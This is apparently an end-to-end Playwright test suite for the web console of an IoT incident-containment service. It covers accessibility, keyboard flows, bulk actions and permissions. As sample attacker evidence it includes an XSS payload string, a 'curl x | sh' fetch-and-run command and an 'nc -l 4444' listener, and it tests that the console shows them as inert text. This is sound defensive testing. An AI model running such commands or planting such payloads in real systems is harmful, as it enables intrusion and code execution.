import { readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { CloudFormationClient } from '@aws-sdk/client-cloudformation';
import { CreateThingCommand } from '@aws-sdk/client-iot';
import { BatchWriteCommand, DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import chromium from '@sparticuz/chromium';
import { type Browser, type BrowserContextOptions, type Page, chromium as playwright } from 'playwright-core';
import { connectApi } from '../../cli/console/api';
import { readConsole } from '../../cli/console/files';
import { findApiUrl } from '../../cli/console/run';
import { startConsole } from '../../cli/console/server';
import { anAlert, aReport } from './alerts';
import { registerDocumented } from './documented-rights';
import { type EndToEnd, root, startEndToEnd, waitUntil } from './harness';
import { publishOrCut } from './mqtt-client';

const hostile = '<img src=x onerror="document.title=1"><script>document.title=2</script>"\'`{1}';
const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const desktop = { viewport: { width: 1_280, height: 860 } };
const phone = { viewport: { width: 390, height: 844 }, hasTouch: true };

let e2e: EndToEnd;
let browser: Browser;
/** What no page may do: ask another origin, break the policy of the page, throw. */
const misdeeds: string[] = [];
beforeAll(async () => {
  [e2e, browser] = await Promise.all([startEndToEnd(), launch()]);
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await e2e?.close();
});

async function launch(): Promise<Browser> {
  return playwright.launch({
    executablePath: await chromium.executablePath(),
    args: ['--no-sandbox', '--disable-gpu'],
  });
}

const origin = () => e2e.stack.aws.gateway.url;

async function open(path: string, options: BrowserContextOptions = desktop): Promise<Page> {
  const context = await browser.newContext({ locale: 'en-GB', reducedMotion: 'reduce', ...options });
  const page = await context.newPage();
  page.setDefaultTimeout(60_000);
  page.on('pageerror', (error) => misdeeds.push(error.message));
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted/.test(message.text())) misdeeds.push(message.text());
  });
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== origin()) misdeeds.push(request.url());
  });
  await page.goto(`${origin()}/console/${path}`);
  return page;
}

/** What axe finds wrong, each with the first element. */
async function findFaults(page: Page): Promise<string[]> {
  await page.evaluate(axeSource);
  return page.evaluate(
    `axe.run(document, { iframes: false }).then(({ violations }) => violations.map(({ id, nodes }) => id + ': ' + nodes[0].html))`,
  );
}

/** Whether something is wider than the screen. */
function isTooWide(page: Page): Promise<boolean> {
  return page.evaluate('document.documentElement.scrollWidth > document.documentElement.clientWidth');
}

/** Goes on with the Tab key until a button of this name has the focus. */
async function tabTo(page: Page, name: string): Promise<void> {
  for (let presses = 0; presses < 12; presses += 1) {
    if ((await page.evaluate('document.activeElement.textContent')) === name) return;
    await page.keyboard.press('Tab');
  }
  throw new Error(`the Tab key does not reach ${name}`);
}

/** A thing whose case is contained, with a process that its agent saw. */
async function containReported(thingName: string, commandLine: string): Promise<void> {
  const client = await e2e.connect(await e2e.enroll(thingName));
  const evidence = [
    {
      metric: 'num_child_procs_myapp',
      ...{ pid: 4_711, ppid: 812, executable: '/bin/sh', commandLine, user: 'myapp' },
      parents: [hostile.slice(0, 60), 'systemd'],
    },
  ];
  const topic = `cordon/things/${thingName}/reports/json`;
  await publishOrCut(client, topic, JSON.stringify(aReport(0)));
  const health = { agent: '0.0.1', degraded: ['hidden', 'of-a-later-version'] };
  await publishOrCut(client, topic, JSON.stringify(aReport(2, { evidence, health })));
  await e2e.waitForCase(thingName, 'contained');
}

async function endAlarm(thingName: string): Promise<void> {
  const violationId = (await e2e.loadCase(thingName))?.violations['myapp-processes/no-child-processes']
    ?.violationId;
  await e2e.publishAlert(
    anAlert(thingName, { violationEventType: 'alarm-cleared', violationId, metricValue: { number: 0 } }),
  );
  await waitUntil(
    () => `the end of the alarm of ${thingName}`,
    async () =>
      (await e2e.loadCase(thingName))?.violations['myapp-processes/no-child-processes']?.lastEventType ===
      'alarm-cleared',
  );
}

/** The text of the file that the button saves. */
async function save(page: Page, format: string): Promise<string> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: `Download ${format}` }).click(),
  ]);
  expect(download.suggestedFilename()).toBe(`cordon-audit.${format.toLowerCase()}`);
  return readFile(await download.path(), 'utf8');
}

async function waitForOther(things: readonly string[], status: string): Promise<void> {
  await waitUntil(
    () => `${things} no longer ${status}`,
    async () => {
      const cases = await Promise.all(things.map((name) => e2e.loadCase(name)));
      return cases.every((one) => one && one.status !== status);
    },
  );
}

describe('the console', () => {
  it('tells the story and takes it to its end by keyboard alone', async () => {
    await containReported('keyed', 'sh -c "curl x | sh"');
    await endAlarm('keyed');
    const page = await open('?show=Contained');
    await page.locator('a.thing', { hasText: 'keyed' }).waitFor();
    await page
      .getByRole('status')
      .getByText(/^\d+ cases?$/)
      .waitFor();

    await page.keyboard.press('?');
    await page.getByRole('dialog').getByText('Next case').waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'keyed' }).waitFor();
    const story = page.getByRole('status');
    await story.getByText('It is contained, and the denial is verified').waitFor();
    await page.getByText('sh -c "curl x | sh"').waitFor();
    await page.locator('.chart canvas').waitFor();
    await page.keyboard.press('i');
    await page.getByText('local-operator is on it').waitFor();
    await page.keyboard.press('l');
    await page.getByRole('dialog').getByLabel('Comment').fill('cleaned by hand');
    await tabTo(page, 'Release');
    await page.keyboard.press('Enter');

    await e2e.waitForCase('keyed', 'closed');
    await page.getByText('Closed', { exact: true }).waitFor();
    await page.locator('.comment', { hasText: 'cleaned by hand' }).waitFor();
    await page.getByText(/Release by .+: “cleaned by hand”$/).waitFor();
    await page.context().close();
  }, 180_000);

  it('shows what an attacker wrote as text, in words and comments alike', async () => {
    await containReported('hostile:_-1', hostile);
    const page = await open('cases/hostile%3A_-1');
    await page.locator('code.command', { hasText: hostile }).waitFor();

    await page.getByLabel('Comment').fill(hostile);
    await page.getByRole('button', { name: 'Add the comment' }).click();

    await page.locator('.comment', { hasText: hostile }).waitFor();
    expect(await page.locator('main img, main script').count()).toBe(0);
    expect(await page.title()).toBe('Cordon');
    await page.context().close();
  }, 180_000);

  it('names the agents that do not see all and says why, on the way to their things', async () => {
    const page = await open('fleet');
    const row = page.locator('.pairs > div', { has: page.getByRole('link', { name: 'hostile:_-1' }) });

    await row.getByText("can't see all processes; reports of-a-later-version").waitFor();
    await row.getByRole('link').click();

    await page.getByRole('heading', { level: 1, name: 'hostile:_-1' }).waitFor();
    await page.getByText("can't see all processes; reports of-a-later-version").waitFor();
    await page.context().close();
  }, 180_000);

  it.each([
    ['', 'light'],
    ['?show=Contained', 'dark'],
    ['cases/hostile%3A_-1', 'light'],
    ['cases/hostile%3A_-1', 'dark'],
    ['things/hostile%3A_-1', 'light'],
    ['rules', 'dark'],
    ['fleet', 'light'],
    ['audit', 'light'],
    ['messages', 'light'],
  ] as const)(
    'has no fault that axe finds at /%s in %s colours, and fits a phone and 200 %%',
    async (path, colorScheme) => {
      const page = await open(path, { ...desktop, colorScheme });
      await page.getByRole('heading', { level: 1 }).waitFor();
      await waitUntil(
        () => `all of ${path}`,
        async () => (await page.locator('main .pending').count()) === 0,
      );
      expect(await findFaults(page)).toEqual([]);
      for (const width of [640, 390]) {
        await page.setViewportSize({ width, height: 844 });
        expect([width, await isTooWide(page)]).toEqual([width, false]);
      }
      expect(await findFaults(page)).toEqual([]);
      await page.context().close();
    },
    180_000,
  );

  it('reads to a screen reader in order: what it is, what can be done, what was measured, what happened', async () => {
    const page = await open('cases/hostile%3A_-1');
    await page.getByRole('img', { name: /threshold 0/ }).waitFor();
    await page.getByRole('list', { name: 'What happened, oldest first' }).waitFor();

    const read = await page.locator('main').ariaSnapshot();
    const found = read.match(
      /(heading|list|img|table|textbox|row) "[^"]+"( \[level=\d\])?|columnheader "[^"]+"/g,
    );

    expect(
      found?.map((one) => one.replace(/"num_child_procs_myapp: .*, threshold 0, alarm at .*"/, '"chart"')),
    ).toEqual(
      expect.arrayContaining([
        'heading "hostile:_-1" [level=1]',
        'list "What you can do now"',
        'heading "Processes" [level=2]',
        'list "Processes"',
        'img "chart"',
        'textbox "Comment"',
        'list "What happened, oldest first"',
        'list "Actions, with their proof"',
        'columnheader "Now"',
        'list "Behaviors of this case"',
      ]),
    );
    await page.context().close();
  }, 180_000);

  it('releases on a phone what two operators look at, and tells the other one', async () => {
    await containReported('shared-look', 'sleep 60');
    await endAlarm('shared-look');
    const [one, other] = await Promise.all([open('cases/shared-look', phone), open('cases/shared-look')]);
    await other.getByRole('button', { name: /^Release/ }).click();
    await other.getByRole('dialog').waitFor();

    await one.getByRole('button', { name: /^Release/ }).tap();
    await one.getByRole('dialog').getByRole('button', { name: 'Release' }).tap();
    await e2e.waitForCase('shared-look', 'closed');
    await one.getByText('Closed', { exact: true }).waitFor();
    await other.getByRole('dialog').getByRole('button', { name: 'Release' }).click();

    await other
      .getByRole('alert')
      .getByText(/has another case by now|is not contained/)
      .waitFor();
    await Promise.all([one.context().close(), other.context().close()]);
  }, 180_000);

  it('hardens a containment, says who is on it, and lets go of it', async () => {
    await containReported('hardened', 'nc -l 4444');
    const page = await open('cases/hardened');
    await page.getByRole('button', { name: 'Take it' }).click();
    await page.getByText('local-operator is on it').waitFor();
    await page.getByRole('button', { name: 'Let go' }).click();
    await page.getByText('nobody is on it').waitFor();

    await page.keyboard.press('?');
    await page.getByRole('dialog').getByText('Harden this thing').waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('h');
    const dialog = page.getByRole('dialog');
    const harden = dialog.getByRole('button', { name: 'Harden' });
    await dialog.getByLabel(/^deactivate-certificate/).check();
    await dialog.getByLabel(/to confirm/).fill('harden');
    expect(await harden.isDisabled()).toBe(true);
    await dialog.getByLabel(/to confirm/).fill('hardened');
    await dialog.getByLabel('Comment').fill('it runs a listener');
    await harden.click();

    const strength = page.getByRole('listitem').filter({ hasText: /^deactivate-certificate/ });
    await strength.getByText('Proven').waitFor();
    await page.locator('.comment', { hasText: 'it runs a listener' }).waitFor();
    await page.context().close();
  }, 180_000);

  it('finds in the audit what somebody did with a thing, and saves it as CSV and JSON', async () => {
    const page = await open('');
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.keyboard.press('g');
    await page.keyboard.press('u');
    await page.getByRole('heading', { name: 'Audit' }).waitFor();
    await page.getByLabel('Thing').fill('hardened');
    await page.getByLabel('Person').fill('nobody-else');
    await page.getByRole('button', { name: 'Filter' }).click();
    await page.getByRole('heading', { name: 'Nobody did anything' }).waitFor();
    await page.getByLabel('Person').fill('');
    await page.getByLabel('Time').selectOption('last day');
    await page.getByRole('button', { name: 'Filter' }).click();

    const entries = page.locator('.audit .entry');
    await entries.filter({ hasText: 'it runs a listener' }).waitFor();
    const things = await entries.locator('a').allTextContents();
    expect(new Set(things)).toEqual(new Set(['hardened']));

    const csv = await save(page, 'CSV');
    const json = JSON.parse(await save(page, 'JSON'));
    expect(json.acts).toHaveLength(things.length);
    const lines = csv.trimEnd().split('\r\n');
    expect(lines).toHaveLength(things.length + 1);
    expect(lines[0]).toBe('"at","actor","thing","case","what","detail"');
    expect(lines.slice(1).map((line) => line.slice(0, 26))).toEqual(
      json.acts.map(({ at }: { at: number }) => `"${new Date(at).toISOString()}"`),
    );
    await page.context().close();
  }, 180_000);

  it('shows what an edited cordon.yml would have done, where it is wrong, and stops when told to', async () => {
    const page = await open('rules');
    const editor = page.getByLabel(/^Copy of cordon.yml/);
    const shipped = await editor.inputValue();
    const replay = page.getByRole('button', { name: 'Replay the last seven days' });

    await editor.fill(shipped.replace('mode: enforce', 'mode: enforced'));
    await replay.click();
    const line = shipped.split('\n').findIndex((text) => text.includes('mode: enforce')) + 1;
    await page.getByRole('button', { name: `Line ${line}` }).click();
    const chosen = 'getSelection().toString()';
    expect(await page.evaluate(chosen)).toContain('mode: enforced');

    await editor.fill(shipped.replace('mode: enforce', 'mode: approve'));
    await replay.click();
    await page.getByText(/of \d+ things would be treated differently/).waitFor();
    const difference = page.getByRole('listitem').filter({ hasText: 'hardened' });
    await difference.getByText(/^contained \(spawned-child: .*quarantine/).waitFor();
    await difference.getByText(/^asked about \(spawned-child/).waitFor();
    expect(await findFaults(page)).toEqual([]);

    let goOn = () => {};
    const held = new Promise<void>((resolve) => {
      goOn = resolve;
    });
    await page.route('**/recording?**', (route) => held.then(() => route.continue()));
    await replay.click();
    await page.getByRole('button', { name: 'Cancel' }).click();
    goOn();
    await replay.waitFor();
    await page.getByText(/treated differently/).waitFor({ state: 'detached' });
    await page.context().close();
  }, 180_000);

  it('asks for nothing while its tab is hidden, and costs a 304 where nothing changed', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.clock.install();
    await page.goto(`${origin()}/console/?show=Observed`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    const unchanged = page.waitForResponse((response) => response.status() === 304);
    await page.clock.runFor(10_000);
    await unchanged;

    const setHidden = (hidden: boolean) =>
      page.evaluate(
        `Object.defineProperty(document, 'hidden', { value: ${hidden}, configurable: true }); document.dispatchEvent(new Event('visibilitychange'))`,
      );
    await setHidden(true);
    // What was asked before ends first.
    await page.clock.runFor(1_000);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.clock.runFor(120_000);
    expect(asked).toEqual([]);
    const again = page.waitForRequest(/\/console\/api\/cases/);
    await setHidden(false);
    await again;
    await context.close();
  }, 180_000);

  it('acts on many at once by their typed number, and on none where another number matches by then', async () => {
    const pumps = Array.from({ length: 18 }, (_, index) => `pump-${index}`);
    await Promise.all(pumps.map((thingName) => e2e.iot.send(new CreateThingCommand({ thingName }))));
    await Promise.all(pumps.map((thingName) => e2e.publishAlert(anAlert(thingName))));
    await waitUntil(
      () => 'a case of each pump',
      async () => {
        const cases = await Promise.all(pumps.map((name) => e2e.loadCase(name)));
        return cases.every((one) => one && (one.ledger.length > 0 || one.status === 'awaiting-approval'));
      },
    );
    const waiting: string[] = [];
    for (const name of pumps)
      if ((await e2e.loadCase(name))?.status === 'awaiting-approval') waiting.push(name);
    const [first = '', second = '', third = '', ...others] = waiting;
    expect(others.length).toBeGreaterThanOrEqual(5);
    const page = await open('');
    const dialog = page.getByRole('dialog');
    const typed = dialog.getByLabel(/to confirm the number/);

    for (const name of [first, second])
      await page.getByRole('checkbox', { name: `Select ${name}`, exact: true }).check();
    const selection = page.getByRole('region', { name: 'Selected cases' });
    await selection.getByRole('button', { name: 'Approve' }).click();
    await typed.fill('3');
    expect(await dialog.getByRole('button', { name: 'Approve 2' }).isDisabled()).toBe(true);
    await typed.fill('2');
    await dialog.getByRole('button', { name: 'Approve 2' }).click();
    await page.getByText('Approval sent for 2 of 2 things.').waitFor();
    await waitForOther([first, second], 'awaiting-approval');

    const all = waiting.length - 2;
    await page.getByRole('button', { name: `Reject all ${all}` }).click();
    const caseId = (await e2e.loadCase(third))?.caseId ?? '';
    await e2e.command({ type: 'reject', thingName: third as never, actor: 'ben', caseId } as never);
    await waitForOther([third], 'awaiting-approval');
    await typed.fill(String(all));
    await dialog.getByRole('button', { name: `Reject ${all}` }).click();
    await dialog
      .getByRole('alert')
      .getByText(`Expected ${all}, but ${all - 1} are selected: nothing was sent`)
      .waitFor();
    expect(await Promise.all(others.map(async (name) => (await e2e.loadCase(name))?.status))).toEqual(
      others.map(() => 'awaiting-approval'),
    );
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: `Reject all ${all - 1}` }).click();
    await typed.fill(String(all - 1));
    await dialog.getByRole('button', { name: `Reject ${all - 1}` }).click();
    await waitForOther(others, 'awaiting-approval');

    await page.goto(`${origin()}/console/?show=In%20progress`);
    for (const name of [first, second])
      await page.getByRole('checkbox', { name: `Select ${name}`, exact: true }).check();
    await selection.getByRole('button', { name: 'Release' }).click();
    await typed.fill('2');
    await dialog.getByRole('button', { name: 'Release 2' }).click();
    for (const name of [first, second]) await e2e.waitForCase(name, 'closed');
    await page.context().close();
  }, 180_000);

  it('says that the connection is lost and how old the data is, and recovers', async () => {
    const page = await open('?show=Contained');
    await page.locator('a.thing').first().waitFor();

    await page.route('**/console/api/**', (route) => route.abort());
    await page.getByRole('alert').getByText('No connection.').waitFor();
    await page.getByText(/What you see is \d+ .+ old\./).waitFor();
    expect(await page.locator('a.thing').count()).toBeGreaterThan(0);
    await page.unroute('**/console/api/**');
    await page.getByRole('alert').waitFor({ state: 'detached' });

    await page.route('**/console/api/**', (route) =>
      route.fulfill({
        status: 401,
        contentType: 'application/problem+json',
        body: '{"detail":"the token has expired"}',
      }),
    );
    await page.getByRole('alert').getByText('You are signed out.').waitFor();
    await page.getByText('The token has expired').waitFor();
    await page.context().close();
  }, 180_000);

  it('says so where a view can not be loaded, as after a deploy of another build', async () => {
    const page = await open('');
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.route('**/assets/views-*', (route) => route.abort());

    await page.getByRole('link', { name: 'Fleet' }).click();
    await page.getByRole('alert').getByText('This view could not be loaded').waitFor();
    await page.unroute('**/assets/views-*');
    await page.getByRole('button', { name: 'Load the page again' }).click();

    await page.getByRole('heading', { name: 'Fleet', exact: true }).waitFor();
    await page.context().close();
  }, 180_000);

  it('shows the first of 10,000 cases at once, and more when asked', async () => {
    await multiplyCase('hostile:_-1', 10_000);
    const startedAt = performance.now();
    const page = await open('?show=Contained');
    await page.locator('a.thing').first().waitFor();
    const took = performance.now() - startedAt;
    expect(await page.locator('a.thing').count()).toBe(50);
    process.stderr.write(`the first of 10,000 cases is seen after ${Math.round(took)} ms\n`);

    await page.getByRole('button', { name: 'Show more' }).click();

    await page.locator('a.thing').nth(99).waitFor();
    await page.context().close();
  }, 180_000);

  it('reads the API with the rights of docs/iam/console.json', async () => {
    const { credentials } = await registerDocumented(e2e, 'console');
    const region = e2e.stack.identity.region;
    const client = new CloudFormationClient({ endpoint: origin(), region, credentials });
    const api = connectApi(
      await findApiUrl('dev', client),
      async () => region,
      async () => credentials,
    );
    const { status, body } = await api({
      ...{ method: 'GET', path: '/cases/hostile%3A_-1', headers: {} },
      body: Buffer.alloc(0),
    });
    client.destroy();
    expect([status, JSON.parse(body.toString()).thingName]).toEqual([200, 'hostile:_-1']);
  });

  it('shows no act to whom IAM lets only read, and names the right', async () => {
    const { region, accountId } = e2e.stack.identity;
    const credentials = { accessKeyId: 'AKIAVIEWERVIEWERVIEW', secretAccessKey: 'x'.repeat(40) };
    const { accessKeyId } = credentials;
    e2e.stack.aws.gateway.registerCaller(accessKeyId, {
      caller: { accessKeyId, arn: `arn:aws:iam::${accountId}:user/bob`, functionName: 'viewer' },
      documents: [
        {
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Action: ['execute-api:Invoke'],
              Resource: [`arn:aws:execute-api:${region}:${accountId}:*/$default/GET/*`],
            },
          ],
        },
      ],
    });
    const api = connectApi(
      e2e.stack.deployed.outputs.ApiUrl ?? '',
      async () => region,
      async () => credentials,
    );
    const files = readConsole([join(root, 'dist', 'console')]);
    const server = await startConsole({ files, api, about: {}, port: 0 });
    const context = await browser.newContext({ ...desktop, locale: 'en-GB' });
    const page = await context.newPage();
    const link = server.issueLink();
    await page.goto(link);
    await page.goto(new URL('/console/cases/hardened', link).href);

    await page.getByText(/^You can read only: IAM permits .+user\/bob no act here/).waitFor();
    expect(await page.getByRole('main').getByRole('button').count()).toBe(0);
    await context.close();
    await server.close();
  }, 180_000);

  it('asked no other origin, broke no policy and threw nothing in all of this', () => {
    expect(misdeeds).toEqual([]);
  });
});

/** Writes copies of a case straight to the table, under other names. */
async function multiplyCase(thingName: string, copies: number): Promise<void> {
  const table = e2e.stack.deployed.outputs.TableName ?? '';
  const documents = DynamoDBDocumentClient.from(e2e.dynamodb);
  const original = (await e2e.cases.load(thingName as never))?.value;
  if (!original) throw new Error('there is nothing to copy');
  const { shardOf, partitionOf } = await import('../../shared/storage/items');
  const { outlineCase } = await import('../../shared/domain/lists/outline');
  const outline = outlineCase(original);
  const batches = Array.from({ length: Math.ceil(copies / 25) }, (_, batch) =>
    Array.from({ length: 25 }, (_, index) => {
      const name = `many-${batch * 25 + index}` as typeof original.thingName;
      const { severity, updatedAt } = original;
      return {
        PutRequest: {
          Item: {
            ...{
              pk: partitionOf(name),
              sk: 'CASE',
              thingName: name,
              caseId: name,
              severity,
              updatedAt,
              outline,
            },
            statusKey: `STATUS#contained#${shardOf(name)}`,
          },
        },
      };
    }),
  );
  for (let at = 0; at < batches.length; at += 8)
    await Promise.all(
      batches
        .slice(at, at + 8)
        .map((Items) => documents.send(new BatchWriteCommand({ RequestItems: { [table]: Items } }))),
    );
}
